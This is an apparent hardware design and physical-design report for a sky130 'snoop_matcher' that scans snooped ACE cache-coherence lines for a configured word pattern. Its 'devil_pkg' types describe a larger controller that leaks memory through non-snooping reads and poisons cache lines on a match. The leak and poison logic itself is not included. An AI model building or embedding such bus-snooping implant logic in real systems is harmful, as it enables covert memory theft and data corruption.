**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = snoop_matcher
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/ace_pkg.sv /design/src/devil_pkg.sv /design/src/snoop_matcher.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 2
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CAP_MARGIN = 15
export CORE_AREA = 2 2 638 640
export CTS_CLUSTER_DIAMETER = 60
export CTS_CLUSTER_SIZE = 40
export DETAILED_ROUTE_END_ITERATION = 7
export DIE_AREA = 0 0 640 642
export GPL_TIMING_DRIVEN = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```
**constraint.sdc**
```tcl
create_clock -name ace_aclk -period 2.8 [get_ports ace_aclk]
set_input_delay 0.84 -clock ace_aclk [delete_from_list [all_inputs] [get_ports ace_aclk]]
set_output_delay 0.84 -clock ace_aclk [all_outputs]
set_load 0.02 [all_outputs]
```
**src/ace_pkg.sv**
```systemverilog
// ------------------------------
// ACE snoop side bus shapes
// ------------------------------
package ace_pkg;

    // address and data geometry of the snoop channels
    localparam int ADDR_W     = 44;
    localparam int WORD_W     = 32;
    localparam int LINE_WORDS = 16;
    localparam int LINE_BYTES = 64;
    localparam int LINE_W     = LINE_BYTES * 8;

    // snoop control field widths
    localparam int ARSNOOP_W = 4;
    localparam int AWSNOOP_W = 3;
    localparam int DOMAIN_W  = 2;

    // ardomain encodings used by the controller
    localparam logic [DOMAIN_W-1:0] DOMAIN_NONSHARED = 2'd0;
    localparam logic [DOMAIN_W-1:0] DOMAIN_OUTER     = 2'd2;

    // ReadNoSnoop for leak reads
    localparam logic [ARSNOOP_W-1:0] SNOOP_READ_NOSNOOP = 4'd0;

    // one full cache line, word 0 in the low bits
    typedef logic [LINE_W-1:0] line_t;

    // snooped transaction as captured by the passive side
    typedef struct packed {
        logic [ADDR_W-1:0] addr;
        line_t             line;
    } snoop_t;

    // read request towards the active side, 50 bits
    typedef struct packed {
        logic [ADDR_W-1:0]    addr;
        logic [ARSNOOP_W-1:0] arsnoop;
        logic [DOMAIN_W-1:0]  ardomain;
    } rd_req_t;

    // write request towards the active side, 561 bits
    typedef struct packed {
        logic [ADDR_W-1:0]    addr;
        logic [AWSNOOP_W-1:0] awsnoop;
        logic [DOMAIN_W-1:0]  ardomain;
        line_t                line;
    } wr_req_t;

endpackage

```
**src/devil_pkg.sv**
```systemverilog
// ------------------------------
// controller types and constants
// ------------------------------
package devil_pkg;

    // configured address width from the register file
    localparam int CFG_ADDR_W = 32;

    // pattern size in words, 1 to 16
    localparam int PSIZE_W = 5;

    // 0x6c0 bytes leaked, one line per read
    localparam int LEAK_LINES = 32'h6C0 / ace_pkg::LINE_BYTES;
    localparam int LEAK_CNT_W = $clog2(LEAK_LINES);

    // match result queue geometry
    localparam int QUEUE_DEPTH = 4;
    localparam int QUEUE_PTR_W = $clog2(QUEUE_DEPTH);
    localparam int QUEUE_CNT_W = $clog2(QUEUE_DEPTH + 1);

    // action on a hit, any other code means no action
    typedef enum logic [3:0] {
        CMD_LEAK   = 4'd0,
        CMD_POISON = 4'd1
    } cmd_e;

    // sequencer states
    typedef enum logic [3:0] {
        ST_IDLE       = 4'd0,
        ST_CHOOSE     = 4'd1,
        ST_LEAK_ISSUE = 4'd2,
        ST_LEAK_WAIT  = 4'd3,
        ST_POISON     = 4'd4,
        ST_REPLY      = 4'd5,
        ST_END        = 4'd6
    } state_e;

    // software configuration, held stable while snoops run
    typedef struct packed {
        cmd_e                          cmd;
        ace_pkg::line_t                pattern;
        logic [PSIZE_W-1:0]            pattern_size;
        logic [CFG_ADDR_W-1:0]         leak_addr;
        logic [CFG_ADDR_W-1:0]         poison_addr;
        logic [ace_pkg::AWSNOOP_W-1:0] poison_awsnoop;
        ace_pkg::line_t                poison_line;
    } cfg_t;

    // one matcher result, 557 bits
    typedef struct packed {
        logic                       hit;
        logic [ace_pkg::ADDR_W-1:0] addr;
        ace_pkg::line_t             line;
    } match_t;

endpackage

```
**src/snoop_matcher.sv**
```systemverilog
module snoop_matcher
(
    input  logic                            ace_aclk,
    input  logic                            ace_aresetn,
    input  logic                            i_snoop_valid,
    input  ace_pkg::snoop_t                 i_snoop,
    input  ace_pkg::line_t                  i_pattern,
    input  logic [devil_pkg::PSIZE_W-1:0]   i_pattern_size,
    output logic                            o_push,
    output devil_pkg::match_t               o_result
);

    // ------------------------------
    // pattern compare
    // ------------------------------

    // pattern word j takes part when j is below the size
    logic [ace_pkg::LINE_WORDS-1:0] word_used;
    // one bit per start offset k in the snooped line
    logic [ace_pkg::LINE_WORDS-1:0] offset_hit;
    // line moved down so that word k sits at word 0
    ace_pkg::line_t                 line_shift;
    // per-word equality for the offset being looked at
    logic [ace_pkg::LINE_WORDS-1:0] word_eq;
    logic                           any_hit;

    always_comb
    begin
        for (int j = 0; j < ace_pkg::LINE_WORDS; j++)
        begin
            word_used[j] = (j < int'(i_pattern_size));
        end
    end

    // all offsets in parallel, one cycle
    always_comb
    begin
        offset_hit = '0;
        line_shift = '0;
        word_eq    = '0;
        for (int k = 0; k < ace_pkg::LINE_WORDS; k++)
        begin
            line_shift = i_snoop.line >> (k * ace_pkg::WORD_W);
            for (int j = 0; j < ace_pkg::LINE_WORDS; j++)
            begin
                word_eq[j] = (line_shift[j*ace_pkg::WORD_W +: ace_pkg::WORD_W] ==
                              i_pattern[j*ace_pkg::WORD_W +: ace_pkg::WORD_W]);
            end
            // pattern must fit inside the line from this offset
            offset_hit[k] = (&(word_eq | ~word_used)) &&
                            ((k + int'(i_pattern_size)) <= ace_pkg::LINE_WORDS);
        end
    end

    assign any_hit = |offset_hit;

    // ------------------------------
    // result register
    // ------------------------------

    // push follows the snoop by one cycle
    always_ff @(posedge ace_aclk)
    begin
        if (!ace_aresetn)
        begin
            o_push <= 1'b0;
        end
        else
        begin
            o_push <= i_snoop_valid;
        end
    end

    // address and line travel with the verdict
    always_ff @(posedge ace_aclk)
    begin
        if (i_snoop_valid)
        begin
            o_result.hit  <= any_hit;
            o_result.addr <= i_snoop.addr;
            o_result.line <= i_snoop.line;
        end
    end

endmodule

```
==> flow_summary.yaml <==
power:
  power_leakage_uw: 0.0500
  ir_drop_mv: 0.550
  power_density_nw_per_um2: 381
drt:
  drc: 0
  wire_per_inst_um: 52.6
  ant_nets: 0
  vias: 90200
  drt_first_pass_iters: 7
  drt_wl_total_mm: 886
  routed_via_density: 5.36
  first_iter_violations: 14800
timing:
  fin_crit_sh_pct: 105
  tns_ns: -0.141
  hold_viol: 0
  report.final.slew_viol_count: 0
  period_minus_slack_ns: 2.94
  fmax_mhz: 340
  maxSlewHeadroom_pct: 52.1
  setup_viol: 1
  worst_slew_pin_slew_ns: 0.712
  postLayoutSetupSlackWorst_ns: -0.141
yosys:
  synth_enable_flop_cells: 557
  ys.warnings.count: 0
  ys.flop_type: "edfxtp_1"
  ys_seq_area_share_pct: 24.1
  synthesis.area_um2: 69400
  synth_top_area_share_pct: 47.1
  ys_ff_latch: 558
  syn-instance-count: 7586
  synth_nets: 8662
  post-synth-top-count-cell: "xor2_1"
  yosys-top-cells-area: "xor2_1 (47%), edfxtp_1 (24%), nor4_1 (9.1%)"
  ys_types: 44
  ys_async_sr_fraction_pct: 0
  yosys-top-cells-count: "xor2_1 (3,734), nor4_1 (1,006), xnor2_1 (615), edfxtp_1 (557), clkbuf_1 (466)"
  synth_area_leader_cell: "xor2_1"
  avgSynthCellArea_um2: 9.15
floorplan:
  io_pins: 1634
  die_area_um2: 411000
  core-area_um2: 404000
  initial_core_util_pct: 17.2
  fp.dieW_um: 640
  std_cell_rows: 234
  fp.dieH_um: 642
finish:
  final_util_pct: 29.0
  nets: 12300
  drive_gt1_share_pct: 42.9
  multiInputGateArea_um2: 48800
  syn2layout_area_growth_pct: 69.0
  regArea_um2: 16700
  fillCellCount: 43200
  fin_area_um2: 117000
hold_path:
  hold_path.class: "in2reg"
  hold_depth: 1
  holdPathEnd: "o_result[528]$_DFFE_PP_"
  min_from: "i_snoop[528]"
clock_network:
  h-tree-depth: 3
  cts_made_buffers: 83
  ctsRootBufferMaster: "clkbuf_16"
  clk_pin_slew_worst_paths_ns: 0.06
  clk_path_buf_depth: 4
  cts_tree: "yes"
  numClockSinks: 558
  postCtsSetupBuffers: 0
global_route:
  grt_max_degree: 67
  grt_first_pass_wirelength_mm: 1070
  antenna_found_initial: 143
  grt_pass1_vias: 85000
  grt-ovfl-total: 0
  track_usage_pct: 41.3
placement:
  place_ws_ns: -1.45
  dp_hpwl_mm: 741
  place_area_um2: 114000
  port_buffers: 1633
  routabilityCongestion: 1.20
setup_path:
  cp.required_ns: 3.50
  critPathLaunchType: "primary input"
  critPathCaptureType: "flop"
  cp_max_fo: 5
  crit_type: "in2reg"
  worstPathArrival_ns: 3.64
status:
  status: "finished with violations"
  violations: "negative setup slack"
flow_run:
  cap_violations: 0
[cell families (layout without fill, tap and decap cells)]
logic type	Yosys count	in the layout	share of synthesized area (%)
buffers and inverters	1040	4784	6.42
xor gates and xnor gates	4349	4349	54.9
AOI/OAI and AO/OA	149	149	1.19
and+or+nand+nor	1490	1490	13.3
DFF	558	558	24.1
other	0	74	0
[worst max path at each step]
stage	start	end	cells past startpoint
6_report	i_snoop[453]	o_result[556]$_DFFE_PP_	11
5_1_grt	i_pattern[215]	o_result[556]$_DFFE_PP_	12
4_1_cts	i_pattern[186]	o_result[556]$_DFFE_PP_	12
3_5_place_dp	i_pattern[17]	o_result[556]$_DFFE_PP_	12
3_3_place_gp	i_pattern[29]	o_result[556]$_DFFE_PP_	9
2_1_floorplan	i_snoop[216]	o_result[556]$_DFFE_PP_	9
[critical path, stage by stage]
cell and delay, ns:
buf_4 0.29, buf_4 0.25, xor2_1 0.08, nor4_1 0.52, nand4_1 0.20, o21ai_0 0.23, buf_4 0.23, nand4_1 0.28
nor4_4 0.43, nor4_2 0.11, nand4_1 0.13
[layout make-up]
cell class	count	share of cell area, %
clock inverters	60	0.536
multi-input cells	5988	41.6
well taps	5428	5.79
repair buffers	4632	35.8
inverters	3	0.00960
flip-flops and latches	558	14.3
clock buffers	89	1.83
diodes	74	0.158
[state kept, by name, indices dropped and copies added (netlist names)]
signal,cells
o_result,557
o_push,1
[cell usage in the layout, fill, tap and decap left out, types with 7 or more instances in the layout]
cell	count
o21ai_0	71
buf_4	4031
o21ai_1	23
buf_12	563
diode_2	74
nor4_2	55
clkbuf_16	85
buf_6	35
nand2_1	13
xnor2_1	614
inv_8	12
xor2_1	3731
o21ai_2	7
nand4_1	418
edfxtp_1	557
nor4_1	947
nor3_1	9
nor2_1	12
clkinvlp_4	10
inv_6	12
a21oi_1	14
[power by group]
| part | leakage [µW] | switching (µW) | internal (µW) |
|---|---|---|---|
| clock network | 0.00133 | 4980 | 6060 |
| registers | 0.00546 | 302 | 9930 |
| logic | 0.0432 | 14900 | 8530 |
| total | 0.0500 | 20200 | 24500 |
[per-layer routing]
layer,vias to the layer above,part of all wire [%],track usage (%)
li1,33100,-,-
met3,3289,13,18.4
met1,44800,37,47.4
met2,8930,40,58.8
met4,108,10,33.6
met5,-,0.091,0.0234
[through the flow]
step / std cells / hold slack [ns] / power (µW)
6_report: 16800 / 0.130 / 44700
5_1_grt: 16800 / 0.116 / 45000
4_1_cts: 16800 / 0.0882 / 43600
3_5_place_dp: 16600 / 1.02 / 32500
3_3_place_gp: 16600 / 1.02 / 32700
2_1_floorplan: 7586 / 0.939 / 18100
[timing repair]
action	in CTS	in global routing
hold buffers	0	0
resized for setup	49	111
endpoints found under the hold margin	0	0
setup endpoints to repair	1	1
pin swaps	5	22
Power figures use the tool's default switching activity.
